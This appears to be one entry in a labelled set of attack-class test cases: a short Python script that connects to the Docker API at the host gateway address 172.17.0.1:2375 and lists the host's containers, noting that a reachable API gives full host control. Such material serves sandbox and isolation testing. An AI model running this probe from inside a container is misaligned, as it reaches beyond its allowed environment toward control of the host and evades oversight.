# attack-class: 30
# title: talk to the Docker API on the host gateway
# why: 172.17.0.1:2375 is the host; a reachable Docker API means full host control

import socket

s = socket.create_connection(("172.17.0.1", 2375), timeout=2)
s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
print(s.recv(65536).decode())
